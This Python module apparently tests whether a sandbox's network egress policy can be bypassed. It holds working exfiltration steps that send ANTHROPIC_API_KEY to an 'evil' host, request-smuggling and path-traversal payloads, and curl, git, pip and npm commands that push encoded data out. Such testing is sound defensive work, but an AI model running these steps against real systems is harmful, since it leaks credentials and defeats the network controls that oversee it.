"""Ways out through what is allowed: hosts the policy names, and the tools a developer has."""

import base64
import json
import os
import socket
import subprocess
import sys
import urllib.parse

from carry import WAIT, drain, https, payload, post, refused
from steps import Loot, step

# Through a host that is allowed


def _ask_allowed(host: str, request: bytes) -> bytes:
    return https((host, 443), host, request)


@step("send")
def other_account_on_the_allowed_host(targets: dict, _loot: Loot) -> object:
    """The attacker's own key: files would land in the attacker's account (THREATS.md 3.6)."""
    host = targets["allowed"]
    extra = "x-api-key: sk-attacker\r\nAuthorization: Bearer sk-attacker\r\nX-Api-Key: sk-attacker-again\r\n"
    return _ask_allowed(host, post(host, b"MARK-other_account", "/v1/files", extra))


@step("send")
def placeholder_in_the_wrong_places(targets: dict, _loot: Loot) -> object:
    host, held = targets["allowed"], os.environ.get("ANTHROPIC_API_KEY", "none")
    coded = base64.b64encode(held.encode()).decode()
    extra = f"Cookie: key={held}\r\nReferer: https://x/{held}\r\nX-Copy: {held}\r\nX-Coded: {coded}\r\n"
    body = json.dumps({"note": "MARK-placeholder", "key": held, "coded": coded}).encode()
    path = f"/v1/messages?key={urllib.parse.quote(held)}&{urllib.parse.quote(coded)}"
    return _ask_allowed(host, post(host, body, path, extra))


@step("send")
def placeholder_to_evil_host(targets: dict, _loot: Loot) -> object:
    evil, held = targets["evil"], os.environ.get("ANTHROPIC_API_KEY", "none")
    return https((evil, 443), evil, post(evil, b"MARK-placeholder_to_evil", extra=f"x-api-key: {held}\r\n"))


@step("send")
def host_header_of_another(targets: dict, loot: Loot) -> object:
    request = post(targets["evil"], payload("host_header_of_another", loot))
    return refused(_ask_allowed(targets["allowed"], request))


@step("send")
def server_name_of_another(targets: dict, loot: Loot) -> object:
    evil = targets["evil"]
    return refused(
        https((targets["allowed"], 443), evil, post(evil, payload("server_name_of_another", loot)))
    )


@step("send")
def second_request_hidden_in_the_first(targets: dict, loot: Loot) -> object:
    host = targets["read_only"]
    hidden = post(host, payload("second_request_hidden", loot, 200), "/private")
    both = f"POST /open HTTP/1.1\r\nHost: {host}\r\nContent-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n"
    return refused(_ask_allowed(host, both.encode() + b"0\r\n\r\n" + hidden))


@step("send")
def post_where_only_get_is_allowed(targets: dict, loot: Loot) -> object:
    host = targets["read_only"]
    answers = [
        _ask_allowed(host, post(host, payload("post_where_only_get", loot), "/open/x", "", method))
        for method in ("POST", "PUT", "PATCH", "DELETE")
    ]
    return refused(*answers)


@step("send")
def path_outside_the_rule(targets: dict, _loot: Loot) -> object:
    host = targets["read_only"]
    mark = "MARK-path_outside_the_rule"
    paths = [
        f"/private/{mark}",
        f"/open/../private/{mark}",
        f"/open/%2e%2e/private/{mark}",
        f"/open%2f..%2fprivate/{mark}",
    ]
    paths += [f"//private/{mark}", f"/open/..;/private/{mark}", f"/open\\..\\private/{mark}"]
    return refused(*[_ask_allowed(host, post(host, b"", path, "", "GET")) for path in paths])


@step("send")
def plain_http_to_the_host_of_the_key(targets: dict, loot: Loot) -> object:
    host = targets["allowed"]
    with socket.create_connection((host, 80), WAIT) as plain:
        plain.sendall(post(host, payload("plain_http", loot)))
        return refused(drain(plain))


@step("send")
def upgrade_to_a_tunnel(targets: dict, loot: Loot) -> object:
    host = targets["read_only"]
    extra = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: eA==\r\nSec-WebSocket-Version: 13\r\n"
    return refused(_ask_allowed(host, post(host, payload("upgrade", loot), "/private", extra, "GET")))


@step("send")
def reflected_key(targets: dict, loot: Loot) -> object:
    """Ask a service that echoes what it gets, and keep the answer: the injected key may be in it."""
    host = targets["echo"]
    answers = []
    for method, extra in (
        ("GET", ""),
        ("POST", "Accept-Encoding: gzip\r\n"),
        ("TRACE", ""),
        ("GET", "Range: bytes=5-\r\n"),
    ):
        answers.append(_ask_allowed(host, post(host, b"", "/headers", extra, method)))
    return loot.add("echo", b"\n".join(answers))


@step("send")
def proxy_headers(targets: dict, _loot: Loot) -> object:
    host = targets["allowed"]
    extra = "Proxy-Authorization: Basic TUFSSw==\r\nX-Forwarded-For: 1.2.3.4\r\nForwarded: for=1.2.3.4\r\nProxy-Connection: x\r\n"
    return bool(_ask_allowed(host, post(host, b"", "/api/hello", extra, "GET")))


# By the tools a developer has


def _tool_step(label: str, *argv: str) -> None:
    def action(targets: dict, loot: Loot) -> object:
        data = urllib.parse.quote_from_bytes(payload(label, loot, 300), safe="")
        words = [word.format(data=data, **targets) for word in argv]
        quiet = {**os.environ, "GIT_TERMINAL_PROMPT": "0"}
        done = subprocess.run(
            words, capture_output=True, timeout=10, check=False, stdin=subprocess.DEVNULL, env=quiet
        )
        return done.stdout[:100] if done.returncode == 0 else None

    action.__name__ = label
    step("send")(action)


_tool_step("curl", "curl", "-sSk", "-m", "5", "https://{evil}/?{data}")
_tool_step("curl_without_proxy", "curl", "-sSk", "-m", "5", "--noproxy", "*", "https://{evil}/?{data}")
_tool_step(
    "curl_resolve",
    "curl",
    "-sSk",
    "-m",
    "5",
    "--noproxy",
    "*",
    "--resolve",
    "{allowed}:443:127.0.0.1",
    "https://{allowed}/MARK-resolve",
)
_tool_step(
    "curl_connect_to",
    "curl",
    "-sSk",
    "-m",
    "5",
    "--connect-to",
    "::{evil}:443",
    "https://{allowed}/MARK-connect-to",
)
_tool_step("git_push", "git", "push", "https://{evil}/MARK-git.git", "HEAD:refs/heads/x")
_tool_step("git_push_over_ssh", "git", "push", "ssh://git@{evil}/MARK-git.git", "HEAD")
_tool_step("git_clone_with_data", "git", "clone", "-q", "https://{evil}/{data}.git", "/tmp/clone")
_tool_step(
    "pip_other_index",
    sys.executable,
    "-m",
    "pip",
    "download",
    "-q",
    "--retries",
    "0",
    "--timeout",
    "3",
    "-i",
    "https://{evil}/{data}",
    "x",
)
_tool_step("npm_other_registry", "npm", "view", "--fetch-retries=0", "--registry=https://{evil}/{data}", "x")
